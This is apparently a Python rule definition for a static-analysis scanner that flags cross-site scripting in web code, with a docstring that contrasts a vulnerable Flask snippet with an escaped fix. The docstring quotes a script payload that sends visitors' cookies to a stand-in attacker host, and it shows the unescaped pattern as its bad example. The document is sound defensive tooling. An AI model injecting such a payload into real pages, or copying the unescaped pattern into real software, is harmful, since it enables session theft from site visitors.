"""Rule SCR909: attacker-controlled data reaching HTML output without escaping."""

from __future__ import annotations

from scrutiny.findings import Confidence, Severity
from scrutiny.rules.base import DataflowRule


class Xss(DataflowRule):
    """Checks for attacker-controlled data returned as HTML or marked safe without escaping.

    ## Why is this bad?
    A response body, a `Markup` or a `mark_safe` string is sent to the browser as HTML: a name of
    `<script>fetch('//evil/'+document.cookie)</script>` runs in every visitor's session. Templates
    escape values by default; code that builds HTML by hand must escape each value itself.

    ## Example
    ```python
    from flask import make_response, request

    def greet():
        name = request.args["name"]
        return make_response("<h1>Hello " + name + "</h1>")
    ```

    ## Use instead
    ```python
    import html
    from flask import make_response, request

    def greet():
        name = request.args["name"]
        return make_response("<h1>Hello " + html.escape(name) + "</h1>")
    ```

    ## Known problems
    Any response body is treated as HTML; a JSON or plain-text response with a safe content type
    is reported too, at the same line.

    ## References
    - [CWE-79: Cross-site Scripting](https://cwe.mitre.org/data/definitions/79.html)
    - [OWASP: XSS Prevention Cheat Sheet](https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html)
    """

    code = "SCR909"
    name = "xss"
    cwe = 79
    severity = Severity.MEDIUM
    confidence = Confidence.HIGH
    sink_kind = "xss"
    fix = (
        "Render HTML through an auto-escaping template, or escape each value with `html.escape` / "
        "`markupsafe.escape`."
    )
    twins = ("SCR208", "SCR209")
